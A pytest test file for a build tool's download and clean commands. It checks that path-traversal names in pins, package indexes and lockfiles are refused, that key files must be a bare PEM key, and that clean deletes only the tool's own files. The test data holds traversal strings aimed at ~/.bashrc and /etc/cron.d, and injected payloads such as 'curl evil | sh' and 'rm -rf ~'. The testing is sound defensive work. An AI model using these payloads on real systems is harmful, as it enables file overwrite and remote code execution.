"""Nothing outside its own files: names that become paths follow one rule, a key file is a key
and nothing else, and `clean` removes only what this tool wrote, where it made the directory."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from scripts import names, paths
from scripts.apk.index import parse_index
from scripts.apk.lockfile import Locked, LockError
from tests.support import apkrepo
from tests.support.world import World

# -- one rule for names that become file names ---------------------------------------------------


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("../../../../home/u/.bashrc", "contains '/'"),
        ("..", "names a directory"),
        (".", "names a directory"),
        ("", "empty"),
        ("a\0b", "NUL"),
        ("a\nb", "control character"),
        ("x" * 256, "at most 255"),
    ],
)
def test_a_name_that_could_leave_its_directory_is_not_a_plain_name(name: str, problem: str) -> None:
    assert problem in (names.problem(name) or "")


def test_plain_names_pass() -> None:
    for name in ("alpine-devel@lists.alpinelinux.org-6165ee59.rsa.pub", "py3-pip-23.3.1-r0.apk", "x" * 255, "é"):
        assert names.problem(name) is None, name


def test_a_key_name_that_is_a_path_is_refused_before_anything_is_fetched(world: World, tmp_path: Path) -> None:
    """The reported attack: the key's name walks out of the cache to a dot file of the user's."""
    target = tmp_path / "home" / ".bashrc"
    target.parent.mkdir()
    keys = world.pins["alpine"]["keys"]
    entry = next(iter(keys.values()))
    evil = "../" * 12 + str(target).lstrip("/")
    world.pins["alpine"]["keys"] = {evil: entry}
    world.mirror.add(entry["url"], b"echo pwned\n")
    proc = world.run("lock")
    assert proc.returncode == 4, proc.stderr
    assert f"pins.json: alpine.keys.{evil}: {evil!r} is not a plain file name: contains '/'" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not target.exists() and not world.mirror.requests


def test_a_key_file_with_text_around_the_key_is_refused_and_not_kept(world: World) -> None:
    """cryptography reads a PEM block after any text: the whole file must be the key."""
    world.pins["alpine"] = apkrepo.alpine_pins({"python": {"world": ["x"], "check": ["true"], "binary": "/bin/true"}},
                                               ["x"], ["main"])  # fmt: skip
    for arch in ("x86_64", "aarch64"):  # lock resolves both
        apkrepo.publish(world.mirror, {"main": [apkrepo.Pkg("x", "1.0-r0", arch)]}, arch)
    url = f"https://alpinelinux.org/keys/{apkrepo.KEY_NAME}"
    for served in (b"#!/bin/sh\ncurl evil | sh\n" + apkrepo.public_pem(), apkrepo.public_pem() + b"rm -rf ~\n"):
        world.mirror.add(url, served)
        proc = world.run("lock")
        assert proc.returncode == 6, proc.stderr
        assert f"key {apkrepo.KEY_NAME} from {url} is not a PEM public key and nothing else" in proc.stderr
        kept = list((world.cache / "keys").rglob(apkrepo.KEY_NAME)) if (world.cache / "keys").exists() else []
        assert kept == [] and not (world.tmp / "alpine.lock.json").exists()
    world.mirror.add(url, apkrepo.public_pem())  # the key alone is accepted
    assert world.run("lock").returncode == 0


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda p: p["alpine"]["runtimes"].__setitem__("../x", p["alpine"]["runtimes"].pop("python")),
         "alpine.runtimes.../x: '../x' is not a plain file name"),
        (lambda p: p["go"].__setitem__("version", "1.26/../../../x"), "go.version: '1.26/../../../x' is not a plain"),
        (lambda p: p["alpine"].__setitem__("branch", ".."), "alpine.branch: '..' is not a plain file name"),
        (lambda p: p["alpine"]["repositories"].append("a/b"), "alpine.repositories[2]: 'a/b' is not a plain"),
        (lambda p: p["kernel"].__setitem__("url", "https://x/{version:>999999999}"),
         "kernel.url: placeholder {version:>999999999} has a format spec"),
        (lambda p: p["kernel"].__setitem__("url", "https://x/{arch!r}"), "kernel.url: placeholder {arch!r} has"),
    ],
)  # fmt: skip
def test_pins_names_and_templates_are_checked(world: World, edit: object, message: str) -> None:
    edit(world.pins)  # type: ignore[operator]
    proc = world.run("download")
    assert proc.returncode == 4 and f"pins.json: {message}" in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr and not world.mirror.requests


def test_index_records_whose_names_are_paths_are_unusable() -> None:
    text = "P:../../../etc/cron.d/x\nV:1.0-r0\n\nP:ok\nV:1/../../x\n\nP:fine\nV:1.0-r0\nA:x86/64\n\n"
    text += "P:good\nV:1.0-r0\nA:x86_64\n"
    parsed = parse_index(text)
    assert [p.name for p in parsed.packages] == ["good"]
    assert len(parsed.unusable) == 3 and all("not a plain file name" in u for u in parsed.unusable), parsed.unusable


def locked(**change: object) -> dict[str, object]:
    good = {"name": "musl", "version": "1.2.5-r0", "arch": "x86_64", "repo": "main", "checksum": "Q1" + "A" * 27 + "=",
            "size": 1, "installed_size": 1, "build_time": 1, "license": "MIT", "origin": "musl", "url": "",
            "repository": "https://dl-cdn.alpinelinux.org/alpine/v3.24/main", "key": "k.pub", "tag": ""}  # fmt: skip
    return {**good, **change}


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"name": "../../../../tmp/x"}, ".name: '../../../../tmp/x' is not a plain file name"),
        ({"version": "1/../../x"}, ".version: '1/../../x' is not a plain file name"),
        ({"checksum": "../../../../x"}, ".checksum: '../../../../x' is not an APK checksum"),
        ({"size": "12"}, ".size: expected a int"),
    ],
)
def test_a_lock_entry_whose_names_are_paths_is_refused(change: dict[str, object], message: str) -> None:
    assert Locked.from_json(locked(), "lock[0]").name == "musl"
    with pytest.raises(LockError) as info:
        Locked.from_json(locked(**change), "lock[0]")
    assert f"lock[0]{message}" in str(info.value)


# -- clean: only what this tool wrote ------------------------------------------------------------


def downloaded(world: World, **env: str) -> None:
    world.run("download", check=True, **env)


def clean(world: World, *args: str, **env: str) -> tuple[int, str]:
    proc = world.run("clean", *args, **env)
    assert "Traceback" not in proc.stderr
    return proc.returncode, proc.stderr


def test_clean_removes_what_it_made_and_is_idempotent(world: World) -> None:
    downloaded(world)
    assert paths.is_marked(world.out / "bin") and paths.is_marked(world.cache)
    for _ in range(2):
        code, err = clean(world, "--all")
        assert code == 0, err
    assert not (world.out / "bin").exists() and not world.cache.exists() and world.out.is_dir()


def test_clean_leaves_a_directory_it_did_not_create(world: World, tmp_path: Path) -> None:
    """VULCAN_OUT=$HOME: the build writes into the user's ~/bin, clean removes none of it."""
    home = tmp_path / "home"
    (home / "bin").mkdir(parents=True)
    (home / "bin" / "my-script").write_text("#!/bin/sh\n")
    downloaded(world, VULCAN_OUT=str(home), HOME=str(home))
    assert (home / "bin" / "firecracker").is_file()
    code, err = clean(world, VULCAN_OUT=str(home), HOME=str(home))
    assert code == 1
    assert f"{home / 'bin'} has no CACHEDIR.TAG of vulcan-images: this tool did not create it" in err
    assert (home / "bin" / "my-script").is_file() and (home / "bin" / "firecracker").is_file()


def test_clean_all_leaves_the_rest_of_a_shared_cache_directory(world: World, tmp_path: Path) -> None:
    """VULCAN_CACHE=~/.cache (which exists, with other programs' caches): none of it goes."""
    home = tmp_path / "home"
    other = home / ".cache" / "pip" / "wheel.whl"
    other.parent.mkdir(parents=True)
    other.write_text("x")
    downloaded(world, VULCAN_CACHE=str(home / ".cache"), HOME=str(home))
    code, err = clean(world, "--all", VULCAN_CACHE=str(home / ".cache"), HOME=str(home))
    assert code == 1 and f"{home / '.cache'} has no CACHEDIR.TAG of vulcan-images" in err
    assert other.is_file() and (home / ".cache" / "sha256").is_dir()


def test_clean_in_a_marked_directory_removes_only_its_own_entries(world: World, tmp_path: Path) -> None:
    """The tool made the cache directory; other files arrived there later: they stay."""
    cache = tmp_path / "new-cache"
    downloaded(world, VULCAN_CACHE=str(cache))
    (cache / "notes.txt").write_text("mine")
    (world.out / "bin" / "mine.sh").write_text("mine")
    code, err = clean(world, "--all", VULCAN_CACHE=str(cache))
    assert code == 1
    assert f"{cache / 'notes.txt'}: not written by vulcan-images" in err
    assert f"{world.out / 'bin' / 'mine.sh'}: not written by vulcan-images" in err
    assert sorted(p.name for p in cache.iterdir()) == ["CACHEDIR.TAG", "notes.txt"]
    assert sorted(p.name for p in (world.out / "bin").iterdir()) == ["CACHEDIR.TAG", "mine.sh"]


def test_clean_never_removes_home_or_a_parent_of_it_even_when_marked(world: World, tmp_path: Path) -> None:
    home = tmp_path / "top" / "home"
    home.mkdir(parents=True)
    (home / ".bashrc").write_text("x")
    for forged in (home, tmp_path / "top"):
        (forged / paths.MARKER).write_text(paths.MARKER_TEXT)  # a marker where it does not belong
        (forged / "sha256").mkdir(exist_ok=True)
        code, err = clean(world, "--all", VULCAN_CACHE=str(forged), HOME=str(home))
        assert code == 1 and "clean never removes that" in err, err
        assert (home / ".bashrc").is_file() and (forged / "sha256").is_dir()


def test_clean_does_not_follow_a_symlinked_output_directory(world: World, tmp_path: Path) -> None:
    downloaded(world)
    elsewhere = tmp_path / "big-disk" / "images"
    elsewhere.mkdir(parents=True)
    (elsewhere / "keep.ext4").write_text("x")
    (world.out / "images").symlink_to(elsewhere)
    code, err = clean(world)
    assert code == 1
    assert f"{world.out / 'images'} is a symbolic link (to {elsewhere}): clean does not follow links" in err
    assert "hint:" in err and (elsewhere / "keep.ext4").is_file()
    assert not (world.out / "bin").exists()  # the rest was still cleaned


def test_clean_sweeps_ram_scratch_of_runs_that_died(world: World, tmp_path: Path) -> None:
    ram = tmp_path / "ram"
    dead = ram / f"vulcan-images-{os.getuid()}" / ".vulcan-rootfs-python-dead"
    dead.mkdir(parents=True)
    (dead / "python.ext4").write_bytes(b"\0" * 4096)
    code, err = clean(world, VULCAN_RAM=str(ram))
    assert code == 0, err
    assert not dead.parent.exists()


def test_the_marker_is_a_cachedir_tag() -> None:
    """https://bford.info/cachedir/: backup tools skip a directory whose tag starts so."""
    assert paths.MARKER_TEXT.startswith("Signature: 8a477f597d28d172789f06886806bc55")


def test_clean_leaves_the_scratch_of_a_build_that_is_running(world: World) -> None:
    import fcntl

    paths.claim(world.out / "images")  # as a build makes it
    live = world.out / "images" / ".vulcan-rootfs-python-live"
    live.mkdir()
    (world.out / "images" / ".vulcan-rootfs-go-dead").mkdir()
    fd = os.open(live, os.O_RDONLY | os.O_DIRECTORY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)  # as workspace.scratch() holds its own
        code, err = clean(world)
    finally:
        os.close(fd)
    assert code == 1 and f"{live}: in use by a build that is running" in err
    assert live.is_dir() and not (world.out / "images" / ".vulcan-rootfs-go-dead").exists()
